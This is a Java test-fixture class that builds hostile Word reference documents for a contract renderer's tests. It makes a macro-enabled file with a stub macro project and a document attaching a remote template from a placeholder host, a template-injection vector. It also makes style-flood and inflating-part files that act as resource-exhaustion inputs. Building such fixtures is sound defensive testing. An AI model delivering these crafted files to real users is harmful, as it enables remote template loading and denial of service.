package no.samspill.render;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import no.samspill.internal.docx.ReferenceDocument;
import org.apache.poi.wp.usermodel.HeaderFooterType;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Reference documents that carry something no contract should: each is the built-in reference
 * with its parts edited as a zip, the way Word would have saved it.
 */
public final class HostileReferences {

    public static final String TEMPLATE_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml";
    public static final String MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml";
    public static final String DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    public static final String REMOTE_TEMPLATE = "https://maler.example.net/firmamal.dotm";
    public static final String HEADER_TEXT = "Malens egen topptekst";

    private HostileReferences() {}

    /** A Word template (.dotx): the same parts, the template content type. */
    public static byte[] dotx() {
        return edit(ReferenceDocument.builtIn(), Map.of("[Content_Types].xml", t -> t.replace(DOCUMENT_TYPE, TEMPLATE_TYPE)), Map.of());
    }

    /** A macro-enabled document (.docm) with a vbaProject.bin. */
    public static byte[] docm() {
        return edit(ReferenceDocument.builtIn(), Map.of(
                "[Content_Types].xml", t -> t.replace(DOCUMENT_TYPE, MACRO_TYPE)
                        .replace("<Default ", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Default "),
                "word/_rels/document.xml.rels", t -> t.replace("</Relationships>",
                        "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
                                + " Target=\"vbaProject.bin\"/></Relationships>")),
                Map.of("word/vbaProject.bin", "Attribute VB_Name = \"AutoOpen\"".getBytes(StandardCharsets.US_ASCII)));
    }

    /** A document whose settings attach a template on a server, with a header of its own. */
    public static byte[] withRemoteAttachedTemplate() {
        byte[] withHeader;
        try (XWPFDocument document = ReferenceDocument.open(ReferenceDocument.builtIn())) {
            document.createHeader(HeaderFooterType.FIRST).createParagraph().createRun().setText(HEADER_TEXT);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.write(out);
            withHeader = out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return edit(withHeader, Map.of(
                "word/settings.xml", t -> t.replaceFirst("(<w:settings[^>]*?)\\s*/>", "$1></w:settings>").replaceFirst("(<w:settings[^>]*>)",
                        "$1<w:attachedTemplate xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rIdTpl\"/><w:linkStyles/>")),
                Map.of("word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rIdTpl\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"" + REMOTE_TEMPLATE + "\" TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8)));
    }

    /** A styles part with this many styles more. */
    public static byte[] withStyles(int count) {
        return edit(ReferenceDocument.builtIn(), Map.of("word/styles.xml", t -> {
            StringBuilder styles = new StringBuilder(count * 90);
            for (int i = 0; i < count; i++) {
                styles.append("<w:style w:type=\"paragraph\" w:customStyle=\"1\" w:styleId=\"Extra").append(i)
                        .append("\"><w:name w:val=\"Extra ").append(i).append("\"/></w:style>");
            }
            return t.replace("</w:styles>", styles + "</w:styles>");
        }), Map.of());
    }

    /** A small file with one part that inflates to this many bytes. */
    public static byte[] withInflatingPart(int bytes) {
        return edit(ReferenceDocument.builtIn(), Map.of(), Map.of("word/media/padding.bin", new byte[bytes]));
    }

    static byte[] edit(byte[] docx, Map<String, UnaryOperator<String>> edits, Map<String, byte[]> added) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        edits.forEach((name, edit) -> {
            byte[] part = parts.get(name);
            if (part == null) {
                throw new IllegalStateException("the built-in reference has no " + name + ": " + parts.keySet());
            }
            String edited = edit.apply(new String(part, StandardCharsets.UTF_8));
            if (edited.equals(new String(part, StandardCharsets.UTF_8))) {
                throw new IllegalStateException("the edit of " + name + " changed nothing");
            }
            parts.put(name, edited.getBytes(StandardCharsets.UTF_8));
        });
        parts.putAll(added);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue());
                out.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
